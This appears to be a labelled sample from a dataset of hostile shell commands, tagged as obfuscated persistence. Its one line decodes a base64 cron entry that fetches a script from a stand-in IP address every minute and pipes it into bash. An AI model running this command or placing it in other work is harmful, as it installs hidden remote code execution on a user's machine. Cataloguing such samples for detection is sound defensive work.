# description: Installs a crontab decoded from base64 that fetches and runs a remote script.
# family: persistence
# obfuscated: yes
echo KiAqICogKiAqIGN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy9iIHwgYmFzaA== | base64 -d | crontab -
